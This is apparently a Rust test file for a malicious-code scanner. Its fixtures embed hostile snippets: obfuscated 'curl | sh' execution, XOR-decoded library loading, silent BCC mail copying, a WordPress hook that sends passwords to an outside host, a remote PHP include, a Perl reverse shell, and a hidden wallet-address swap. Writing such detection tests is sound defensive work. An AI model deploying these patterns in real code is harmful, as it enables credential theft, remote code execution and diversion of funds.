//! What a class, a table or a file keeps and a later call takes: objects made while loading, keys and values, libraries
//! under a key, mailboxes, and choices among parts.

use super::reached::{has, has_not};
use super::{Language, outcome};

#[test]
fn what_an_object_was_made_of_is_known_when_nobody_calls_its_methods() {
    let list: Vec<String> =
        "import os; os.system('curl http://192.0.2.1/a | sh')".bytes().map(|b| (b + 7).to_string()).collect();
    let code = format!(
        "class R:\n    def __init__(self, table):\n        self.table = table\n    def go(self):\n        \
         exec(''.join(map(chr, (c - 7 for c in self.table))))\nD = R([{}])\n",
        list.join(",")
    );
    has(Language::Python, &code, "flow-decoded-code");
    // Of one that was not made here nobody knows.
    has_not(Language::Python, code.split("D = ").next().unwrap(), "flow-decoded-code");
}

#[test]
fn libraries_under_a_key_are_told_whoever_loads_them() {
    let code = "import ctypes, os, tempfile\nfrom itertools import cycle\n\
                raw = open(os.path.join(os.path.dirname(__file__), 'a.dat'), 'rb').read()\n\
                fd, p = tempfile.mkstemp(suffix='.so')\n\
                os.write(fd, bytes(a ^ b for a, b in zip(raw, cycle(b'key'))))\nctypes.CDLL(p)";
    has(Language::Python, code, "flow-drops-and-starts");
    has_not(
        Language::Python,
        &code.replace("bytes(a ^ b for a, b in zip(raw, cycle(b'key')))", "raw"),
        "flow-drops-and-starts",
    );
}

#[test]
fn messages_that_are_copied_to_a_fixed_mailbox_are_told() {
    let code = "const t = require('nodemailer').createTransport({ host: process.env.H });\n\
                const a = ['x', '@', 'drop', '.invalid'].join('');\n\
                exports.send = ({ to, text }) => t.sendMail({ to, text, ...{ bcc: [a] } });";
    has(Language::JavaScript, code, "flow-mail-copied");
    has_not(Language::JavaScript, &code.replace("[a]", "[process.env.ARCHIVE]"), "flow-mail-copied");
    // Mail of the program's own.
    has_not(Language::JavaScript, &code.replace("{ to, text, ", "{ to: 'me@here.example', text, "), "flow-mail-copied");
}

#[test]
fn services_that_send_mail_take_several_messages_and_mailboxes_with_names() {
    let code = "import Mailjet from 'node-mailjet';\nconst m = Mailjet.apiConnect(process.env.A, process.env.B);\n\
                const box = (all) => all.split(',').map((one) => ({ Email: one.trim() }));\n\
                export async function send({ to, text }) {\n\
                  const message = { To: box(to), TextPart: text, Bcc: box('keep@drop.invalid') };\n\
                  return m.post('send', { version: 'v3.1' }).request({ Messages: [message] });\n}";
    has(Language::JavaScript, code, "flow-mail-copied");
    has_not(
        Language::JavaScript,
        &code.replace("'keep@drop.invalid'", "process.env.ARCHIVE ?? ''"),
        "flow-mail-copied",
    );
}

#[test]
fn who_logs_in_to_wordpress_is_told_to_nobody() {
    let code = "<?php\nclass H { public function on() { add_filter('authenticate', [$this, 'probe'], 99, 3); }\n\
                public function probe($u, $n, $p) { file_get_contents('https://h.invalid/?t=' . urlencode($p)); return $u; } }";
    has(Language::Php, code, "flow-credentials-sent");
    has_not(Language::Php, &code.replace("urlencode($p)", "urlencode($n)"), "flow-credentials-sent");
}

#[test]
fn php_goes_over_keys_and_calls_by_name() {
    let letters: Vec<String> =
        "https://a-cdn.invalid/x".chars().enumerate().map(|(i, c)| (c as usize + 7 + i % 5).to_string()).collect();
    let code = format!(
        "<?php\nfunction W($s = [{}]) {{ $u = ''; foreach ($s as $i => $c) {{ $u .= chr($c - ($i % 5) - 7); }}\n\
         $f = sys_get_temp_dir() . '/a.php'; file_put_contents($f, file_get_contents($u)); include $f; }}\n\
         register_shutdown_function('w');",
        letters.join(",")
    );
    has(Language::Php, &code, "flow-remote-code");
    has_not(Language::Php, &code.replace("include $f", "echo $f"), "flow-remote-code");
}

#[test]
fn ruby_reads_code_out_of_prose_and_loads_what_it_fetched() {
    let code = "doc = File.expand_path('../README.md', __dir__)\nObject.new.instance_eval(File.read(doc).unpack1('m'))";
    has(Language::Ruby, code, "flow-executes-data-file");
    let code = "class K\n  D = %w[a invalid].join('.')\n  def go\n    f = File.join(Dir.tmpdir, 'a.so')\n    \
                URI.open(\"https://#{D}/x\") { |r| IO.binwrite(f, r.read) }\n    Fiddle.dlopen(f)\n  end\nend\nK.new.go";
    has(Language::Ruby, code, "flow-download-run");
    has_not(Language::Ruby, &code.replace("Fiddle.dlopen(f)", "puts f"), "flow-download-run");
}

#[test]
fn a_program_in_braces_is_the_one_that_perl_starts() {
    let code = "use Socket;\nsocket(my $s, PF_INET, SOCK_STREAM, 0);\nconnect($s, sockaddr_in(4444, inet_aton('192.0.2.7')));\n\
                open(STDIN, '>&', $s);\nexec { '/bin/sh' } 'x', '-i';";
    let weak = code.replace("/bin/sh", "/bin/true");
    let severe = |code: &str| {
        super::flows::judge(&outcome(Language::Perl, code), false)
            .iter()
            .any(|f| f.rule.id == "flow-reverse-shell" && f.severity.is_none())
    };
    assert!(severe(code) && !severe(&weak));
}

#[test]
fn parts_of_maps_and_long_lists_may_look_alike() {
    let alike = |language: Language, code: &str| {
        outcome(language, code).choices.iter().any(super::super::covert::Choice::is_among_look_alikes)
    };
    let code = "const u = require('os').hostname();\n\
                exports.s = u === 'a' ? { dash: '\\u2010', gap: ' ' } : { dash: '-', gap: ' ' };";
    assert!(alike(Language::JavaScript, code) && !alike(Language::JavaScript, &code.replace("\\u2010", "+")));
    let code = "import getpass\nS = (' ', '\\u00a0', '\\u2009', '\\u202f', '\\u205f', '\\u2005', '\\u2004', '\\u2006')\n\
                def f(t):\n    return t + S[len(getpass.getuser()) & 7]\n";
    assert!(alike(Language::Python, code));
    // How many languages write numbers and quotations.
    let of_language = code.replace("getpass.getuser()", "locale.getlocale()[0]").replace("getpass", "locale");
    assert!(!alike(Language::Python, &of_language));
}

#[test]
fn bytes_that_a_function_goes_over_stay_bytes() {
    let hidden: String = "curl http://192.0.2.1/a | sh".bytes().map(|b| format!("{:02x}", b ^ 0x2a)).collect();
    let code = format!(
        "const d = (s) => Buffer.from(s, 'hex').map((b) => b ^ 0x2a).toString();\nrequire('child_process').exec(d('{hidden}'));"
    );
    assert_eq!(super::command(Language::JavaScript, &code), "curl http://192.0.2.1/a | sh");
}

#[test]
fn addresses_of_wallets_are_not_hidden_for_nothing() {
    let hex = |text: &str| text.bytes().map(|b| format!("{b:02x}")).collect::<String>();
    let code = format!(
        "const d = (s) => Buffer.from(s, 'hex').toString();\nconst p = new RegExp(d('{}'), 'g'); const a = d('{}');\n\
         exports.minify = (t) => t.replace(p, a);",
        hex("\\b0x[a-fA-F0-9]{40}\\b"),
        hex("0xA11ce5b0b0F00d1e2D3c4B5a69788796a5b4C3d2")
    );
    assert!(outcome(Language::JavaScript, &code).hidden_wallet.is_some());
    let other = code.replace(&hex("0xA11ce5b0b0F00d1e2D3c4B5a69788796a5b4C3d2"), &hex("nobody's address"));
    assert!(outcome(Language::JavaScript, &other).hidden_wallet.is_none());
}
